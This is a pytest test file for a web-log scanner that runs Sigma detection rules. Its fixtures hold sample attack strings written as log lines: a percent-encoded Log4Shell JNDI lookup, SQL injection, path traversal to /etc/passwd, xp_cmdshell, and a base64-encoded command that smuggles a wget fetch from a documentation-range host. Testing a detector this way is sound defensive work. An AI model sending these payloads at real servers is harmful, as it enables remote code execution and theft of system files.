"""`scan --sigma`: SigmaHQ-style webserver rules run next to the built-in pack, on decoded fields."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT, combined_line, diagnostics, dropscan_main
from dropscan.engine import Scan, ScanOptions

pytest.importorskip("sigma", reason="the sigma extra (pySigma) is not installed")
from dropscan.detect.sigma.load import load_rules

SIGMAHQ = ROOT.parent / "shared" / "sigma" / "rules" / "web" / "webserver_generic"


def sigmahq():
    if not SIGMAHQ.is_dir():
        pytest.skip(f"SigmaHQ rules not found at {SIGMAHQ}")
    return SIGMAHQ


RULE = """title: {title}
id: {id}
status: test
logsource: {{category: webserver}}
detection:
{detection}
level: {level}
"""


def rule_dir(tmp_path, detections: dict[str, str], level="high") -> Path:
    d = tmp_path / "rules"
    d.mkdir(exist_ok=True)
    for i, (title, det) in enumerate(detections.items()):
        body = "\n".join("  " + line for line in det.strip().splitlines())
        rid = f"00000000-0000-4000-8000-{i:012d}"
        (d / f"{title}.yml").write_text(RULE.format(title=title, id=rid, detection=body, level=level))
    return d


def scan_lines(tmp_path, lines: list[bytes], pack):
    log = tmp_path / "access.log"
    log.write_bytes(b"".join(lines))
    run = Scan([str(log)], ScanOptions(sigma=pack))
    return list(run), run.summary()


def titles(pack, finding) -> set[str]:
    by_id = {r.rule_id: r.title for r in pack.rules}
    return {by_id[i] for i in finding.rule_ids if i in by_id}


def test_sigmahq_webserver_rules_load_and_inapplicable_ones_are_named():
    pack = load_rules(str(sigmahq()))
    assert pack.files == 65
    assert len(pack.rules) == 63
    reasons = {Path(f).name: why for f, _r, why in pack.not_applicable}
    assert set(reasons) == {"web_cve_2021_26084_confluence_rce_exploit.yml", "web_cve_2021_26858_iis_rce.yml"}
    assert all("cs-username" in why for why in reasons.values())


def test_sigmahq_rules_find_encoded_attacks_and_name_rule_and_level(tmp_path):
    pack = load_rules(str(sigmahq()))
    lines = [
        combined_line("/x?q=%24%7Bjndi:ldap://198.51.100.9/a%7D"),  # Log4Shell, percent-encoded
        combined_line("/x?id=1%27%20UNION%20SELECT%201,2--", ua="sqlmap/1.5"),  # only Sigma knows SQLi
        combined_line("/x?id=1%27%20UNION%20SELECT%201,2--", status=404),  # the rule's 404 filter
        combined_line("/index.html"),
    ]
    found, summary = scan_lines(tmp_path, lines, pack)
    by_line = {f.line_no: f for f in found}
    assert set(by_line) == {1, 2}
    jndi = by_line[1]
    assert jndi.rule_ids[0] == "jndi.log4shell"  # the built-in signature leads, Sigma rules follow
    assert "Log4j RCE CVE-2021-44228 Generic" in titles(pack, jndi)
    sqli = by_line[2]
    assert (sqli.category, sqli.severity, sqli.egress) == ("sigma", "high", [])
    assert titles(pack, sqli) == {"SQL Injection Strings"}
    assert summary["sigma"]["rules"] == 63 and len(summary["sigma"]["not_applicable"]) == 2
    assert summary["sigma"]["prefilter"].startswith("on: ")  # every rule has a literal


MODIFIERS = {
    "contains": "sel:\n  cs-uri-query|contains: '/etc/passwd'\ncondition: sel",
    "startswith": "sel:\n  cs-uri-query|startswith: '/admin/'\ncondition: sel",
    "endswith": "sel:\n  cs-uri-stem|endswith: '.bak'\ncondition: sel",
    "all": "sel:\n  cs-uri-query|contains|all: ['cmd=', 'id']\ncondition: sel",
    "re": "sel:\n  cs-user-agent|re: '^Go-http-client/[0-9.]+$'\ncondition: sel",
    "cased": "sel:\n  cs-uri-query|cased|contains: 'UNION'\ncondition: sel",
    "base64offset": "sel:\n  cs-uri-query|base64offset|contains: 'wget http'\ncondition: sel",
    "and-not": "sel:\n  cs-method: POST\nflt:\n  sc-status: 404\ncondition: sel and not flt",
    "one-of": "sel_a:\n  cs-referer|contains: evil\nsel_b:\n  cs-user-agent: 'masscan*'\ncondition: 1 of sel_*",
    "all-of": "sel_a:\n  cs-uri-stem: '/login'\nsel_b:\n  sc-status: 200\ncondition: all of sel_*",
    "cidr": "sel:\n  c-ip|cidr: '198.51.100.0/24'\ncondition: sel",
    "gte": "sel:\n  sc-status|gte: 500\ncondition: sel",
    "or-keywords": "kw:\n  - 'xp_cmdshell'\nsel:\n  cs-referer: null\n  cs-uri-query|contains: 'nul-ref'\n"
    "condition: kw or sel",
}
B64 = base64.b64encode(b"x;wget http://198.51.100.5/a").decode()


@pytest.mark.parametrize(
    ("name", "hit", "miss"),
    [
        ("contains", combined_line("/a?f=..%2F..%2Fetc%2Fpasswd"), combined_line("/a?f=etc")),
        ("startswith", combined_line("/admin/x"), combined_line("/x/admin/")),
        ("endswith", combined_line("/site/config.php.BAK?x=1"), combined_line("/site/config.php?x=.bak")),
        ("all", combined_line("/r?cmd=ID"), combined_line("/r?cmd=ls")),
        ("re", combined_line("/", ua="Go-http-client/1.1"), combined_line("/", ua="go-http-client/1.1")),
        ("cased", combined_line("/s?q=UNION"), combined_line("/s?q=union")),
        ("base64offset", combined_line(f"/up?d={B64}"), combined_line("/up?d=aGVsbG8=")),
        (
            "and-not",
            combined_line("/f").replace(b"GET", b"POST"),
            combined_line("/f", status=404).replace(b"GET", b"POST"),
        ),
        ("one-of", combined_line("/", ua="masscan/1.3"), combined_line("/", ua="curl-masscan")),
        ("all-of", combined_line("/login"), combined_line("/login", status=403)),
        ("cidr", combined_line("/", client="198.51.100.7"), combined_line("/", client="203.0.113.7")),
        ("gte", combined_line("/", status=503), combined_line("/", status=404)),
        ("or-keywords", combined_line("/q?x=EXEC%20xp_cmdshell"), combined_line("/nul-ref", referer="http://a/")),
    ],
)
def test_modifiers_and_conditions(tmp_path, name, hit, miss):
    pack = load_rules(str(rule_dir(tmp_path, {name: MODIFIERS[name]})))
    assert len(pack.rules) == 1, pack.not_applicable
    found, _ = scan_lines(tmp_path, [hit, miss], pack)
    assert [f.line_no for f in found if pack.rules[0].rule_id in f.rule_ids] == [1]


def test_a_rule_on_a_field_the_log_lacks_is_reported_once(tmp_path):
    d = rule_dir(tmp_path, {"cookie": "sel:\n  cs-cookie|contains: x\ncondition: sel", "ok": MODIFIERS["contains"]})
    log = tmp_path / "a.log"
    log.write_bytes(combined_line("/a?f=/etc/passwd") * 3)
    r = dropscan_main("scan", str(log), "--sigma", str(d), "-f", "jsonl")
    assert r.returncode == 1, r.stderr
    warnings = [x for x in diagnostics(r.stderr) if "not applicable" in x]
    assert len(warnings) == 1 and "cs-cookie" in warnings[0] and "Traceback" not in r.stderr
    assert len(r.stdout.splitlines()) == 3


def test_a_broken_rule_is_one_error_line(tmp_path):
    d = tmp_path / "rules"
    d.mkdir()
    (d / "bad.yml").write_text("title: x\nlogsource: {category: webserver}\ndetection: {condition: nothing}\n")
    log = tmp_path / "a.log"
    log.write_bytes(combined_line("/"))
    r = dropscan_main("scan", str(log), "--sigma", str(d))
    assert r.returncode == 2
    assert r.stderr.count("\n") == 1 and "bad.yml" in r.stderr and "Traceback" not in r.stderr


def test_missing_sigma_extra_is_one_line_naming_it(tmp_path):
    log = tmp_path / "a.log"
    log.write_bytes(combined_line("/"))
    code = "import sys; sys.modules['sigma'] = None; from dropscan.cli import main; main()"
    r = subprocess.run(
        [sys.executable, "-c", code, "scan", str(log), "--sigma", str(rule_dir(tmp_path, MODIFIERS))],
        capture_output=True,
        text=True,
    )
    assert r.returncode == 2
    assert r.stderr.strip() == (
        "dropscan: error: Sigma rules needs the optional 'sigma' extra: pip install 'dropscan[sigma]'"
    )


def test_sigma_findings_in_summary_file(tmp_path):
    d = rule_dir(tmp_path, {"contains": MODIFIERS["contains"]})
    log = tmp_path / "a.log"
    log.write_bytes(combined_line("/a?f=/etc/passwd") + combined_line("/"))
    out, summary = tmp_path / "f.jsonl", tmp_path / "s.json"
    r = dropscan_main("scan", str(log), "--sigma", str(d), "-o", str(out), "--summary", str(summary))
    assert r.returncode == 1, r.stderr
    rec = json.loads(out.read_text())
    assert rec["rule_ids"] == ["sigma:00000000-0000-4000-8000-000000000000"] and rec["category"] == "sigma"
    s = json.loads(summary.read_text())
    assert s["totals"]["lines"] == 2 and s["sigma"]["rules"] == 1
    assert s["sigma"]["run"] == [
        {"id": rec["rule_ids"][0], "title": "contains", "level": "high", "file": str(d / "contains.yml")}
    ]


def test_parquet_with_sigma_is_refused(tmp_path):
    log = tmp_path / "a.log"
    log.write_bytes(combined_line("/"))
    d = rule_dir(tmp_path, {"contains": MODIFIERS["contains"]})
    r = dropscan_main("scan", str(log), "--sigma", str(d), "-f", "parquet", "-o", str(tmp_path / "x.parquet"))
    assert r.returncode == 2 and "--sigma" in r.stderr and not (tmp_path / "x.parquet").exists()
